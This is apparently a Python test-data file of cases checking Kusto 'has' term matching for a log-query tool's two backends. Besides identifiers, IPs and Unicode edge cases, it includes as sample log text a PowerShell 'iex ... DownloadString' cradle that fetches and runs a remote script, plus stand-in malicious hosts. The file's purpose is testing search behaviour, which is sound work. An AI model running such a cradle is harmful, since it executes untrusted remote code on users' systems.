"""Kusto ``has`` semantics as test cases, shared by both backends' tests.

Whole terms (runs of letters and digits), case-insensitive: the local DuckDB backend and the
Log Analytics backend (through the fake endpoint) must match exactly the same rows.
"""

from __future__ import annotations

#: (identifier, text, whether ``text has identifier``)
HAS_CASES = [
    ("jdoe", "CONTOSO\\jdoe", True),
    ("jdoe", "jdoe@contoso.com", True),
    ("JDOE", "jdoe@contoso.com", True),
    ("jdoe", "jdoe2@contoso.com", False),
    ("jdoe", "xjdoe", False),
    ("doe", "jdoe", False),
    ("10.0.0.1", "10.0.0.1:443", True),
    ("10.0.0.1", "10.0.0.10", False),
    ("10.0.0.1", "110.0.0.1", False),
    ("CONTOSO\\jdoe", "user CONTOSO\\jdoe logged on", True),
    ("CONTOSO\\jdoe", "CONTOSO\\jdoe2", False),
    ("O'Brien", "Dear O'Brien,", True),
    ('a"b', 'x a"b y', True),
    ("line1\nline2", "before line1\nline2 after", True),
    ("ユーザー", "ユーザー@例え.jp", True),
    ("ユーザー", "管理ユーザー", False),
    ("take", "please take this", True),
    ("union *", "x union * y", True),
    ("a.b", "aXb", False),
    ("(x|y)", "(x|y)", True),
    ("(x|y)", "x", False),
    ("é", "café", False),
    ("emoji 😀", "an emoji 😀 here", True),
    # URLs, domains and hashes in free text (issue 10): the command line of
    # tests/fixtures/sample-data SecurityEvent_4688, a Syslog-style message.
    (
        "http://wh401k.org/getps",
        "iex (New-Object Net.WebClient).DownloadString('http://wh401k.org/getps')",
        True,
    ),
    ("wh401k.org", "DownloadString('http://wh401k.org/getps')", True),
    ("wh401k.org/getps", "DownloadString('http://wh401k.org/getps')", True),
    ("http://wh401k.org/getps", "http://wh401k.org/getpsx", False),
    ("http://wh401k.org/getps", "http://wh401k.org/getps/next", True),
    ("https://evil.example/a?b=1", "GET https://evil.example/a?b=1 HTTP/1.1", True),
    ("https://evil.example/a?b=1", "GET https://evil.example/a?b=10 HTTP/1.1", False),
    ("evil.example", "dns query sub.evil.example A", True),
    ("evil.example", "dns query evil.examples A", False),
    (
        "3423b3fd7bf9ff89886377241521d7896eceb0274c4b2b6af1e0910da70822b1",
        "sha256=3423B3FD7BF9FF89886377241521D7896ECEB0274C4B2B6AF1E0910DA70822B1 ok",
        True,
    ),
    (
        "3423b3fd7bf9ff89",
        "sha256=3423b3fd7bf9ff89886377241521d7896eceb0274c4b2b6af1e0910da70822b1",
        False,
    ),
]
